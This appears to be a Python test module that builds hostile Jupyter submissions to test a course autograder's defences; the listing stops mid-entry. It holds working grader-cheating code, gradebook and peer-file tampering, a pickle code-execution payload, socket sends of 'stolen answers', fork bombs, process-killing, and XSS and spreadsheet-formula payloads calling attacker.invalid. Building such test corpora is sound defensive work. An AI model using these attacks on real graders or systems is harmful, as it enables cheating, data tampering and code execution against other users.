"""A corpus of hostile and broken submissions to lab 02, each built in code.

Every entry starts from the untouched release (``untouched()``: every answer a stub, so an
honest run earns 0) or from ``completed_lab()`` (every answer right, so an honest run earns
full marks), then injects a cell or edits an answer. Each says what its *honest* code earns:
a cheat earns nothing more, a crash at a known point keeps exactly the exercises checked
before it, and the rest of the class is graded as if it were not there.

``build(target)`` gets the paths and ports of the grading run under test (``Target``), because
several attacks aim at them: the course's ``solutions/`` and hidden references, the gradebook
and other students' files, a listener on the host's loopback, and a marker file that the grader
would create if it ever unpickled a recorded answer.

Most attacks are bounded in their own code as a safety net (a deadline, a count), so a
grader that failed to stop them would fail the tests, not take the machine down.
"""

from __future__ import annotations

import copy
import dataclasses
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from course import LAB, RELEASED, completed_lab, read

from interplab.exercises import get_lab

SPEC = get_lab(LAB)
EXERCISES = [ex.name for ex in SPEC.exercises]
#: Points per exercise, from the check cells' nbgrader metadata.
POINTS = {c.metadata["nbgrader"]["grade_id"].removeprefix("check_"): float(c.metadata["nbgrader"]["points"])
          for c in read(RELEASED).cells if c.metadata.get("nbgrader", {}).get("grade")}
FULL = sum(POINTS.values())
#: Names that processes started by the attacks give themselves, to look for leftovers.
FORK_BOMB_NAME = "ilab-forkbomb"
DAEMON_NAME = "ilab-daemon"
DAEMON_SLEEP = "900.125"


@dataclass(frozen=True)
class Target:
    """What a grading run under test looks like from outside: paths an attacker would aim at."""

    root: Path          # the course repository: solutions/, autograder/references/
    work: Path          # nbgrader's working folder: gradebook.db, submitted/, autograded/
    submissions: Path   # the folder of submissions being graded
    port: int           # a TCP and UDP listener on the host's 127.0.0.1
    marker: Path        # created on the host only if the grader unpickles a planted payload


@dataclass(frozen=True)
class Hostile:
    """One hostile submission and what grading it must give."""

    student: str
    build: Callable[[Target], nbformat.NotebookNode | bytes]
    points: dict[str, float]
    #: Words that must appear in the student's CSV row (status and details).
    reason: str | None = None
    #: Words that must appear in the student's feedback HTML (None: no feedback is expected).
    feedback: str | None = None
    #: The row's status must start with this.
    status: str = "graded"
    what: str = ""


# -- expected points ---------------------------------------------------------------------------

def full() -> dict[str, float]:
    return dict(POINTS)


def zero() -> dict[str, float]:
    return {name: 0.0 for name in EXERCISES}


def full_except(*names: str) -> dict[str, float]:
    return {name: 0.0 if name in names else POINTS[name] for name in EXERCISES}


def up_to(last: str) -> dict[str, float]:
    """Full marks for ``last`` and every exercise checked before it, nothing after."""
    keep = EXERCISES[: EXERCISES.index(last) + 1]
    return full_except(*(name for name in EXERCISES if name not in keep))


# -- building submissions ----------------------------------------------------------------------

def untouched() -> nbformat.NotebookNode:
    return read(RELEASED)


def grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def cell_of(nb: nbformat.NotebookNode, gid: str):
    return next(c for c in nb.cells if grade_id(c) == gid)


def inject(nb: nbformat.NotebookNode, source: str, after: str | None = None) -> nbformat.NotebookNode:
    """A copy of ``nb`` with a new plain code cell after the cell ``after`` (default: at the end)."""
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    cell.id = f"hostile-{len(nb.cells)}"
    index = len(nb.cells) if after is None else nb.cells.index(cell_of(nb, after)) + 1
    nb.cells.insert(index, cell)
    return nb


#: After this cell the lab's imports, ``lab`` and ``model`` exist.
SETUP = "code_03"


def set_answer(nb: nbformat.NotebookNode, exercise: str, source: str) -> None:
    cell_of(nb, f"answer_{exercise}").source = source


def wrap_answer(nb: nbformat.NotebookNode, exercise: str, body: str) -> None:
    """Keep the answer, then replace the function by a wrapper; ``_honest`` is the original."""
    cell = cell_of(nb, f"answer_{exercise}")
    cell.source += (f"\n\n_honest_{exercise} = {exercise}\n\n"
                    f"def {exercise}(*args, **kwargs):\n"
                    f"    _honest = _honest_{exercise}\n" + "".join(f"    {line}\n" for line in body.splitlines()))


RECORD_DIR = 'os.environ["INTERPLAB_RECORD_DIR"]'
#: Ends an attack that plants files: the kernel exits at once, so the planted files are what
#: the grader finds (no later check cell overwrites them) and the run costs only the setup.
THEN_EXIT = "\nimport sys, time\nsys.stdout.flush()\ntime.sleep(1)  # let the output reach the notebook\nos._exit(0)\n"
HIDDEN_DIR = f'os.path.join({RECORD_DIR}, "hidden")'


def plant(source: str) -> nbformat.NotebookNode:
    """The untouched lab with ``source`` run right after the setup, and then the kernel gone."""
    return inject(untouched(), "import os\n" + source + THEN_EXIT, after=SETUP)


# -- the attacks -------------------------------------------------------------------------------

def redefine_helpers(t: Target):
    nb = completed_lab()
    wrap_answer(nb, "prev_token_scores", "return _honest(*args, **kwargs) * 1.01  # 1 % off everywhere")
    return inject(nb, after=SETUP, source="""\
# Make every comparison say "equal", every verdict "correct", and every tolerance huge:
# in the lab's spec, in the registry and in this session's copy.
import dataclasses, torch, torch.testing
import interplab.answers, interplab.checker, interplab.exercises, interplab.judge
import interplab.exercises.induction as induction
from interplab.exercises import LabSpec
from interplab.judge import Verdict

torch.testing.assert_close = lambda *args, **kwargs: None
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
interplab.answers.close = interplab.judge.close = lambda *args, **kwargs: True
interplab.answers.is_finite = interplab.judge.is_finite = lambda *args, **kwargs: True
fake_judge = lambda ex, *args, **kwargs: Verdict(ex.name, 1.0, "correct on all cases")
interplab.judge.judge = interplab.checker.judge = fake_judge

loose = tuple(dataclasses.replace(ex, rtol=1e9, atol=1e9) for ex in lab.spec.exercises)
for ex in lab.spec.exercises:
    object.__setattr__(ex, "rtol", 1e9)
    object.__setattr__(ex, "atol", 1e9)
lab.spec = induction.LAB = LabSpec(lab.spec.name, loose)
interplab.exercises.get_lab = lambda name: lab.spec
print("tolerance now", lab.spec.exercise("prev_token_scores").rtol)
""")


def lab_methods(t: Target):
    return inject(untouched(), after=SETUP, source="""\
from interplab.checker import Lab

def _pretend(self, exercise, fn):
    print(f"✅ {exercise}: correct on all cases.")

Lab.check = Lab.record = _pretend
lab.check = lab.record = lambda exercise, fn: _pretend(lab, exercise, fn)
""")


def always_equal(t: Target):
    nb = inject(untouched(), after=SETUP, source="""\
class AlwaysEqual(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__

class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 1
    def __array__(self, *args, **kwargs): raise TypeError("no")
""")
    for name in EXERCISES:
        set_answer(nb, name, f"def {name}(*args, **kwargs):\n    return Anything()")
    return nb


def ipython_hooks(t: Target):
    return inject(untouched(), after=SETUP, source="""\
# Rewrite every check cell before it runs, and swallow every exception.
import ast

def _no_checks(lines):
    text = "".join(lines)
    if "lab.check(" in text or "lab.record(" in text:
        return ['print("✅ correct on all cases.")\\n']
    return lines

class _NoCalls(ast.NodeTransformer):
    def visit_Call(self, node):
        name = getattr(node.func, "attr", "")
        return ast.Constant(None) if name in ("check", "record") else self.generic_visit(node)

def _quiet(self, etype, value, tb, tb_offset=None):
    print("✅ correct on all cases.")

ip = get_ipython()
ip.input_transformers_cleanup.append(_no_checks)
ip.input_transformers_post.append(_no_checks)
ip.ast_transformers.append(_NoCalls())
ip.set_custom_exc((BaseException,), _quiet)
raise AssertionError("swallowed by the custom handler")
""")


def read_solutions(t: Target):
    sources = [t.root / "solutions" / LAB / "induction_heads.ipynb", t.work / "source" / LAB / "induction_heads.ipynb",
               Path("/work/main/solutions") / LAB / "induction_heads.ipynb"]
    nb = inject(untouched(), after=SETUP, source=f"""\
import json, pathlib

SOURCES = {[str(s) for s in sources]!r}

def _cheat(name):
    for path in SOURCES:
        try:
            source = json.loads(pathlib.Path(path).read_text())
        except Exception as exc:
            print(f"cannot read {{path}}: {{exc.__class__.__name__}}")
            continue
        for cell in source["cells"]:
            if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "answer_" + name:
                exec("".join(cell["source"]), globals())
                return

    def stub(*args, **kwargs):
        raise NotImplementedError()

    globals()[name] = stub
""")
    for name in EXERCISES:
        set_answer(nb, name, f'_cheat("{name}")')
    return nb


def deep_tree(t: Target):
    return plant("""\
# A folder tree deeper than Python's recursion limit, some of it unreadable, for the grader to delete.
fd = top = os.open(".", os.O_RDONLY)
for depth in range(3000):
    os.mkdir("d", dir_fd=fd)
    inner = os.open("d", os.O_RDONLY, dir_fd=fd)
    if fd != top:
        os.close(fd)
    fd = inner
os.mkdir("locked", dir_fd=fd)
os.chmod("locked", 0, dir_fd=fd)
print("made a tree 3000 folders deep")
""")


def read_references(t: Target):
    refs = t.root / "autograder" / "references" / LAB / "expected" / "hidden"
    return plant(f"""\
import glob, shutil

hidden = {HIDDEN_DIR}
os.makedirs(hidden, exist_ok=True)
for pattern in ["{refs}/*.safetensors", "/work/main/autograder/references/*/expected/hidden/*.safetensors"]:
    for src in glob.glob(pattern):
        shutil.copy(src, hidden)
print("sees the repository:", os.path.exists("{t.root / 'solutions'}"), sorted(os.listdir(hidden)))
""")


def symlink_files(t: Target):
    refs = t.root / "autograder" / "references" / LAB / "expected" / "hidden"
    return plant(f"""\
hidden = {HIDDEN_DIR}
os.makedirs(hidden, exist_ok=True)
for name in {EXERCISES!r}:
    os.symlink("{refs}/" + name + ".safetensors", os.path.join(hidden, name + ".safetensors"))
print(sorted(os.listdir(hidden)))
""")


def symlink_folder(t: Target):
    refs = t.root / "autograder" / "references" / LAB / "expected"
    return plant(f"""\
import shutil

answers = {RECORD_DIR}
shutil.rmtree(answers, ignore_errors=True)
os.symlink("{refs}", answers)  # answers/hidden/<exercise>.safetensors: the hidden references
print(os.readlink(answers))
""")


def gradebook(t: Target):
    targets = [t.work / "gradebook.db", t.work / "submitted" / "alice" / LAB / "induction_heads.ipynb",
               t.work / "autograded" / "alice" / LAB / "induction_heads.ipynb", t.submissions / "alice.ipynb",
               t.work / "PWNED"]
    return plant(f"""\
import sqlite3

try:
    db = sqlite3.connect("{t.work / 'gradebook.db'}", timeout=2)
    db.execute("update grade set manual_score = 0, auto_score = 0")
    db.commit()
    print("rewrote the gradebook")
except Exception as exc:
    print("gradebook:", exc.__class__.__name__, exc)
for path in {[str(p) for p in targets]!r}:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        print("wrote", path)
    except Exception as exc:
        print(path, exc.__class__.__name__)
""")


def network(t: Target):
    return plant(f"""\
import socket

for host, port in [("127.0.0.1", {t.port}), ("localhost", {t.port}), ("93.184.216.34", 80), ("1.1.1.1", 53)]:
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            s.sendall(b"stolen answers")
        print("connected to", host, port)
    except OSError as exc:
        print(f"no connection to {{host}}:{{port}}: {{exc}}")
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.sendto(b"stolen answers", ("127.0.0.1", {t.port}))
except OSError as exc:
    print("udp:", exc)
try:
    print(socket.getaddrinfo("example.com", 80)[:1])
except OSError as exc:
    print("dns:", exc)
""")


def sys_exit(t: Target):
    nb = inject(completed_lab(), "import sys\nsys.exit(3)", after="check_repeated_tokens")
    nb = inject(nb, "raise SystemExit('bye')", after="check_logit_attribution")
    return inject(nb, "exit()")  # last: the kernel shuts down a moment later, racing later cells


def os_exit(t: Target):
    return inject(completed_lab(), "import os\nos._exit(0)", after="check_repeated_tokens")


def kill_kernel(t: Target):
    return inject(completed_lab(), "import os\nos.kill(os.getpid(), 9)", after="check_logit_attribution")


def kill_parent(t: Target):
    return inject(completed_lab(), after="check_ablation_loss_increase", source="""\
import os, signal

os.kill(os.getppid(), signal.SIGKILL)  # the notebook runner
os.kill(-1, signal.SIGKILL)            # everything this user may signal
""")


def forged_executed(t: Target):
    meta = t.root / "autograder" / "references" / LAB / "meta.json"
    return plant(f"""\
# Leave an executed notebook of our own making, with a 50 MB output and a tick everywhere,
# and the runner's log a symlink to the hidden references' meta.json (which names the secret
# seed), then kill the runner: it neither writes the real notebook nor its last log lines.
import json, signal

os.remove("executed.log")
os.symlink("{meta}", "executed.log")

nb = json.load(open("submission.ipynb"))
code = [cell for cell in nb["cells"] if cell["cell_type"] == "code"]
for cell in code:
    cell["outputs"] = [{{"output_type": "stream", "name": "stdout", "text": "✅ correct on all cases.\\n"}}]
code[0]["outputs"][0]["text"] += "x" * 50_000_000
with open("executed.ipynb", "w") as f:
    json.dump(nb, f)
os.kill(os.getppid(), signal.SIGKILL)
""")


def infinite_loop(t: Target):
    # A cell that never returns. It waits rather than spins: the grader interrupts both alike at the cell limit,
    # and a spinning one would only take a core from the rest of the test suite for those 120 s.
    return inject(completed_lab(), "import time\nwhile True:\n    time.sleep(0.1)", after="check_first_token_scores")


def swallow_interrupt(t: Target):
    return inject(completed_lab(), after="check_ov_top1_accuracy", source="""\
import signal, time

signal.signal(signal.SIGINT, signal.SIG_IGN)
deadline = time.time() + 600  # a safety net only: the grader must stop it long before
while time.time() < deadline:
    try:
        time.sleep(0.1)
    except KeyboardInterrupt:
        pass
""")


def resource_bombs(t: Target):
    nb = inject(completed_lab(), after="check_prev_token_scores", source="""\
def _bomb():
    hog = []
    try:
        for _ in range(2000):  # at most 128 GB: the grader's limit must stop it first
            hog.append(bytearray(64 * 2**20))
    except MemoryError:
        return len(hog) * 64
    return None

print("MB allocated before MemoryError:", _bomb())
try:
    torch.ones(2**40)
except RuntimeError as exc:
    print("torch refused:", str(exc)[:60])
""")
    return inject(nb, after="check_repeated_tokens", source=f"""\
import ctypes, os, time

def _bomb(depth, deadline, stop):
    # A bounded tree: at most 16 + 16**2 + 16**3 = 4368 forks, none after 20 s, all gone by 900 s
    # (long enough to outlive the batch, so that a survivor shows in the process table).
    for _ in range(16):
        if time.time() > deadline:
            break
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.05)
            continue
        if pid == 0:
            try:
                ctypes.CDLL(None).prctl(15, b"{FORK_BOMB_NAME}", 0, 0, 0)
                if depth < 2:
                    _bomb(depth + 1, deadline, stop)
                time.sleep(max(0.0, stop - time.time()))
            finally:
                os._exit(0)

start = time.time()
_bomb(0, start + 20, start + 900)
print("forking done")

# And daemons that would outlive the notebook: a detached sleep, a double-forked loop.
import subprocess
subprocess.Popen(["sleep", "{DAEMON_SLEEP}"], start_new_session=True)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{DAEMON_NAME}", 0, 0, 0)
        while time.time() < start + 900:  # a safety net only
            time.sleep(0.5)
    os._exit(0)
os.waitpid(pid, 0)
""")


def corrupt_json(t: Target):
    return b'{"cells": [ this is not json'


def invalid_notebook(t: Target):
    return json.dumps({"cells": 5, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode()


def restructured(t: Target):
    nb = completed_lab()
    nb.cells.remove(cell_of(nb, "answer_first_token_scores"))  # comes back unanswered
    nb.cells.remove(cell_of(nb, "check_ov_top1_accuracy"))     # comes back as it was
    answer = cell_of(nb, "answer_induction_scores")
    answer.cell_type = "raw"                                    # the student's code, back as code
    del answer["outputs"], answer["execution_count"]
    check = cell_of(nb, "check_logit_attribution")
    check.cell_type = "markdown"
    del check["outputs"], check["execution_count"]
    return nb


def edited_locked(t: Target):
    nb = untouched()
    checks = [cell for cell in nb.cells if (grade_id(cell) or "").startswith("check_")]
    for i, cell in enumerate(checks):
        cell.source = 'print("✅ correct on all cases.")'
        if i % 2:  # nbgrader's metadata gone: the cell no longer looks like a check
            del cell.metadata["nbgrader"]
        else:      # metadata kept, worth 100 points
            cell.metadata.nbgrader["points"] = 100
    cell_of(nb, SETUP).source += "\nlab = None"
    bonus = nbformat.v4.new_code_cell('print("bonus")')
    bonus.id = "bonus"
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 100, "locked": False,
                                  "solution": False, "task": False, "schema_version": 3}
    no_id = nbformat.v4.new_code_cell("1")
    no_id.id = "no-id"
    no_id.metadata["nbgrader"] = {"grade": True, "points": 100, "solution": False, "locked": False, "schema_version": 3}
    nb.cells += [bonus, no_id]
    cell_of(nb, "answer_prev_token_scores").metadata.nbgrader.update(grade=True, points=50)
    return nb


def bad_answers(t: Target):
    nb = completed_lab()
    wrap_answer(nb, "current_token_scores", "return _honest(*args, **kwargs).to(torch.int32)  # wrong dtype")
    wrap_answer(nb, "prev_token_scores", "return _honest(*args, **kwargs).T  # wrong shape")
    wrap_answer(nb, "first_token_scores", 'return torch.full_like(_honest(*args, **kwargs), float("nan"))')
    wrap_answer(nb, "induction_scores", "return _honest(*args, **kwargs).double()  # right values in float64")
    return nb


def tampered_recordings(t: Target):
    return plant(f"""\
import json, struct
import torch
from safetensors.torch import save_file

hidden = {HIDDEN_DIR}
os.makedirs(hidden, exist_ok=True)

def path(name):
    p = os.path.join(hidden, name + ".safetensors")
    if os.path.isdir(p) and not os.path.islink(p):
        os.rmdir(p)
    elif os.path.lexists(p):
        os.remove(p)
    return p

def save(name, tensors, **meta):
    save_file(tensors, path(name), metadata={{k: str(v) for k, v in meta.items()}})

nan = float("nan")
save("attention_pattern", {{f"case{{i}}": torch.full((2, 4, 15, 15), nan) for i in range(3)}}, n_cases=3)
os.mkfifo(path("current_token_scores"))                      # a reader would block for ever
os.mkdir(path("prev_token_scores"))
with open(path("first_token_scores"), "wb") as f:
    f.truncate(100 * 2**20)                                   # sparse, over the size limit
save("repeated_tokens", {{f"case{{i}}": torch.rand(3, 15) for i in range(3)}}, n_cases=3)
with open(path("induction_scores"), "wb") as f:
    f.write(b"\\x00" * 64)
save("logit_attribution", {{"case0": torch.zeros(11, 9)}}, n_cases=1)
save("ablation_loss_increase", {{"case0": torch.zeros(2, 4), "case1": torch.zeros(2, 4)}},
     n_cases=2, **{{"case0.error": "both"}})
save("ov_top1_accuracy", {{"case0": torch.tensor(1.0)}}, n_cases=10**12)
save("composition_score", {{f"case{{i}}": torch.tensor(0.5 + 0.5j) for i in range(3)}}, n_cases=3)
save("head_composition_scores", {{f"case{{i}}": torch.ones(4, 4).to(torch.float8_e4m3fn) for i in range(2)}}, n_cases=2)
header = json.dumps({{"case0": {{"dtype": "F64", "shape": [2**40], "data_offsets": [0, 2**43]}},
                      "__metadata__": {{"n_cases": "2"}}}}).encode()
with open(path("composition_baseline"), "wb") as f:
    f.write(struct.pack("<Q", len(header)) + header)          # claims 8 TB of data
print(sorted(os.listdir(hidden)))
""")


def pickle_payload(t: Target):
    return plant(f"""\
import pickle

class Payload:
    def __reduce__(self):
        return (os.system, ("touch {t.marker}",))

blob = pickle.dumps({{"case0": Payload()}})
answers = {RECORD_DIR}
for folder in ("hidden", "public"):
    os.makedirs(os.path.join(answers, folder), exist_ok=True)
    for name in {EXERCISES!r}:
        for suffix in (".safetensors", ".pt", ".pkl"):
            with open(os.path.join(answers, folder, name + suffix), "wb") as f:
                f.write(blob)
with open(os.path.join(answers, "meta.json"), "wb") as f:
    f.write(blob)
print("planted")
""")


def forged_public(t: Target):
    return plant(f"""\
import glob, shutil
import interplab

public = os.path.join(os.path.dirname(interplab.__file__), "references", "{LAB}", "expected", "public")
hidden = {HIDDEN_DIR}
os.makedirs(hidden, exist_ok=True)
for src in glob.glob(os.path.join(public, "*.safetensors")):
    shutil.copy(src, hidden)
print(sorted(os.listdir(hidden)))
""")


def noisy_outputs(t: Target):
    nb = completed_lab()
    for name in EXERCISES:  # correct code that is noisy inside every check: no false zeros
        wrap_answer(nb, name, f"""\
import logging, sys, warnings
print("debug: {name} called", file=sys.stderr)
warnings.warn("{name}: just a warning")
logging.getLogger("student").warning("{name}: logged")
return _honest(*args, **kwargs)""")
    nb = inject(nb, 'import sys, warnings\nprint("to stderr", file=sys.stderr)\nwarnings.warn("hello")', after=SETUP)
    nb = inject(nb, 'print("x" * 50_000_000)', after="check_attention_pattern")
    return inject(nb, "for i in range(1_000_000):\n    print(i)", after="check_current_token_scores")


#: What the html-js submission sets if any of its scripts runs, and the host its requests go to.
PWNED = "pwned"
ATTACKER = "attacker.invalid"
#: What its honest outputs say: they must still show in the feedback.
HONEST_TEXT = "honest text 4242"
HONEST_HTML = "bold honest 4343"
VICTIM_NAME = "ilab-victim"


def fill_disk(t: Target):
    return plant("""\
# Fill /tmp, then the private folder, with 64 MB files (4 GB each at most: a safety net).
def fill(folder):
    written = 0
    try:
        for i in range(64):
            with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                for _ in range(64):
                    f.write(b"x" * 2**20)
                    written += 1
    except OSError as exc:
        return f"{written} MB, then {exc.strerror}"
    return f"{written} MB"

print("/tmp took", fill("/tmp"))
print("home took", fill(os.path.expanduser("~")))
""")


def memory_forks(t: Target):
    return plant("""\
# Three children allocate 1.5 GB each, in step, telling the parent each 64 MB they hold; /tmp is filled too.
import time
try:
    with open("/tmp/fill", "wb") as f:
        for _ in range(1024):
            f.write(b"x" * 2**20)
except OSError:
    pass
pipes = []
for child in range(3):
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.close(read_end)
        hog = []
        for _ in range(24):
            block = bytearray(64 * 2**20)
            block[::4096] = b"x" * (len(block) // 4096)  # touch every page: untouched ones are not held
            hog.append(block)
            os.write(write_end, b"+")
            time.sleep(0.05)
        time.sleep(3)
        os._exit(0)
    os.close(write_end)
    pipes.append(read_end)
held, alive, peak = [0, 0, 0], [True, True, True], 0
deadline = time.time() + 60
while time.time() < deadline:
    for i, fd in enumerate(pipes):
        os.set_blocking(fd, False)
        try:
            got = os.read(fd, 100) if alive[i] else b"+"
            alive[i] = alive[i] and got != b""  # end of file: that child is gone, and its memory with it
            held[i] += 64 * len(got) if alive[i] else 0
        except BlockingIOError:
            pass
    peak = max(peak, sum(h for h, a in zip(held, alive) if a))  # what the living children hold at once
    try:
        if os.waitpid(-1, os.WNOHANG)[0] == 0:
            time.sleep(0.05)
    except ChildProcessError:
        break
print(f"children held {held} MB: {peak} MB together at most")
""")


def html_js(t: Target):
    nb = plant("""\
import base64, io
import matplotlib.pyplot as plt
import torch
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
from interplab import viz

steal = "http://ATTACKER/steal"
print("HONEST_TEXT")
fig, ax = plt.subplots(figsize=(2, 2))
ax.plot([0, 1], [1, 0])
png = io.BytesIO()
fig.savefig(png, format="png")
display(Image(data=png.getvalue()))
display(viz.attention_heads(torch.rand(2, 4, 4).softmax(-1), ["a", "b", "c", "d"]))
display(HTML(f'<script>window.PWNED = "script"; document.title = "PWNED"; fetch("{steal}?script")</script><b>HONEST_HTML</b>'))
display(HTML(f'<img src="x" onerror="window.PWNED = \\'onerror\\'; new Image().src = \\'{steal}?img\\'">'))
display(Javascript(f'window.PWNED = "javascript"; document.title = "PWNED"; fetch("{steal}?js")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.PWNED = "svg"</script><circle r="5"/></svg>'))
display(Markdown('<script>window.PWNED = "markdown output"</script> [a link](javascript:window.PWNED="md-link")'))
display({"text/html": '<iframe srcdoc="<script>parent.PWNED = 1</script>"></iframe>'}, raw=True)
pixel = base64.b64encode(png.getvalue()).decode()
display({"image/png": pixel}, metadata={"image/png": {"width": '9" onerror="window.PWNED = \\'width\\'"'}}, raw=True)
display({"image/png": 'x" onerror="window.PWNED = \\'base64\\'"'}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>window.PWNED = 'widget'</script>"}},
        raw=True)
""".replace("ATTACKER", ATTACKER).replace("PWNED", PWNED).replace("HONEST_TEXT", HONEST_TEXT)
       .replace("HONEST_HTML", HONEST_HTML))
    markdown = nbformat.v4.new_markdown_cell(
        f'<script>window.{PWNED} = "markdown cell"</script>\n\n'
        f"<img src=x onerror=\"window.{PWNED} = 'markdown img'\">\n\n"
        f"[click me](javascript:window.{PWNED}='markdown link') <a href=\"javascript:window.{PWNED}='a'\">me too</a>\n\n"
        "<style>body { display: none }</style>")
    markdown.id = "hostile-markdown"
    markdown.metadata["tags"] = [f'x" onmouseover="window.{PWNED} = \'tag\'']
    raw = nbformat.v4.new_raw_cell(f'<script>window.{PWNED} = "raw cell"</script>')
    raw.id = "hostile-raw"
    raw.metadata["raw_mimetype"] = "text/html"
    nb.cells[1:1] = [markdown, raw]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    return nb


def forged_error(t: Target):
    formula = '=HYPERLINK("http://attacker.invalid/"&A1,"click")'
    return plant(f"""\
from safetensors.torch import save_file
import torch

hidden = {HIDDEN_DIR}
os.makedirs(hidden, exist_ok=True)
error = {formula!r} + "\\x00\\r\\n\\"\\x1b[31m,;" * 4_000_000  # 50 MB of control characters and quotes
n = {len(SPEC.exercise("repeated_tokens").build_cases(0))}  # as many cases as the grader ran
save_file({{f"case{{i}}": torch.zeros(1) for i in range(1, n)}}, os.path.join(hidden, "repeated_tokens.safetensors"),
          metadata={{"n_cases": str(n), "case0.error": error}})
print("forged", len(error), "characters")
""")


def huge_file(t: Target):
    data = json.loads(nbformat.writes(untouched()))
    data["cells"][0]["source"] = "<!--" + "x" * (60 * 1024**2) + "-->"
    return json.dumps(data).encode()


def many_outputs(t: Target):
    data = json.loads(nbformat.writes(untouched()))
    setup = next(c for c in data["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == SETUP)
    setup["outputs"] = [{"output_type": "stream", "name": "stdout", "text": f"{i}\n"} for i in range(600_000)]
    return json.dumps(data).encode()


def kill_worker(t: Target):
    # Names itself at once (before the lab's slow imports) so that the test's stand-in for the
    # out-of-memory killer can find it and kill the grading worker above it.
    nb = completed_lab()
    return inject(nb, after="code_02", source=f"""\
import ctypes, time
ctypes.CDLL(None).prctl(15, b"{VICTIM_NAME}", 0, 0, 0)
time.sleep(60)  # a safety net: its worker is killed long before
""")


#: The corpus, slowest first: grading hands students to workers in order of their names, and
#: the numbered names keep this order, so the long runs overlap with the rest of the class.
CORPUS: list[Hostile] = [
    Hostile("swallow-interrupt", swallow_interrupt, up_to("ov_top1_accuracy"), "limit and was stopped",
            "no answer was recorded", what="ignores SIGINT and swallows KeyboardInterrupt"),
    Hostile("infinite-loop", infinite_loop, full(), what="a cell that never returns (while True: sleep)"),
    Hostile("redefine-helpers", redefine_helpers, full_except("prev_token_scores"), "off by a constant factor everywhere",
            "off by a constant factor everywhere", what="assert_close, allclose, equal, answers.close, judge.judge all say yes; "
            "tolerances in lab.spec and the registry set to 1e9; one answer 1% off"),
    Hostile("lab-methods", lab_methods, zero(), "no answer was recorded", "no answer was recorded",
            what="Lab.check and Lab.record replaced by prints"),
    Hostile("always-equal", always_equal, zero(), "returned a Anything", "returned a Anything",
            what="every function returns an object whose __eq__ is always true"),
    Hostile("ipython-hooks", ipython_hooks, zero(), "no answer was recorded", "no answer was recorded",
            what="input and AST transformers rewrite the check cells; set_custom_exc swallows errors"),
    Hostile("read-solutions", read_solutions, zero(), "not done yet", "not done yet",
            what="answers exec'd from the instructor's solutions/ at grade time"),
    Hostile("sys-exit", sys_exit, full(), what="sys.exit and SystemExit between checks, exit() at the end"),
    Hostile("resource-bombs", resource_bombs, full(),
            what="allocates until MemoryError, asks torch for 4 TB; a bounded fork tree (4368 forks at most), "
            "a detached sleep and a double-forked daemon"),
    Hostile("noisy-outputs", noisy_outputs, full(),
            what="correct code that prints to stderr, warns and logs in every check; one 50 MB line; a million lines"),
    Hostile("restructured", restructured, full_except("first_token_scores"),
            "restored deleted answer cell (left unanswered) answer_first_token_scores", "not done yet",
            what="deleted answer and check cells, an answer retyped to raw, a check to markdown"),
    Hostile("edited-locked", edited_locked, zero(), "restored deleted cell check_", "not done yet",
            what="check cells rewritten (some worth 100 points, some stripped of metadata), lab = None, "
                 "forged grade cells and an answer cell marked as graded"),
    Hostile("bad-answers", bad_answers, full_except("current_token_scores", "prev_token_scores", "first_token_scores"),
            "transposed", "NaN", what="wrong dtype, transposed shape, NaN; right answers in float64 still count"),
    Hostile("kill-parent", kill_parent, up_to("ablation_loss_increase"), "killed by SIGKILL", "no answer was recorded",
            what="SIGKILL to the notebook runner and to every process it may signal (-1)"),
    Hostile("kill-kernel", kill_kernel, up_to("logit_attribution"), "the kernel died", "no answer was recorded",
            what="the kernel SIGKILLs itself"),
    Hostile("os-exit", os_exit, up_to("repeated_tokens"), "the kernel died", "no answer was recorded",
            what="os._exit after the repeated-tokens check"),
    Hostile("forged-executed", forged_executed, zero(), "killed by SIGKILL", "no answer was recorded",
            what="writes its own executed notebook (a 50 MB output, ticks everywhere), symlinks the runner's log "
            "to the hidden references' meta.json, kills the runner"),
    Hostile("deep-tree", deep_tree, zero(), "no answer was recorded", "3000 folders deep",
            what="leaves a folder tree 3000 deep (beyond Python's recursion limit) in its folder"),
    Hostile("read-references", read_references, zero(), "no answer was recorded", "no answer was recorded",
            what="hidden references copied into the answers folder"),
    Hostile("symlink-files", symlink_files, zero(), "symbolic link", "symbolic link",
            what="each recorded answer a symlink to its hidden reference"),
    Hostile("symlink-folder", symlink_folder, zero(), "symbolic link", "symbolic link",
            what="the answers folder a symlink to the hidden references"),
    Hostile("gradebook", gradebook, zero(), "no answer was recorded", "no answer was recorded",
            what="writes the gradebook, alice's submitted and autograded notebooks and her submission"),
    Hostile("network", network, zero(), "no answer was recorded", "no connection to 127.0.0.1",
            what="connects to a listener on the host's loopback and to the internet"),
    Hostile("tampered-recordings", tampered_recordings, zero(), "the recorded answer was rejected",
            "the recorded answer was rejected",
            what="hand-written answer files: NaN, FIFO, folder, sparse 100 MB, bad headers, complex, float8"),
    Hostile("pickle-payload", pickle_payload, zero(), "could not be read", "could not be read",
            what="pickles that would create a marker file on the host if the grader unpickled them"),
    Hostile("forged-public", forged_public, zero(), "public reference", "public reference",
            what="the public reference outputs copied in as the hidden answers"),
    Hostile("kill-worker", kill_worker, zero(), status="not graded: the grading process died",
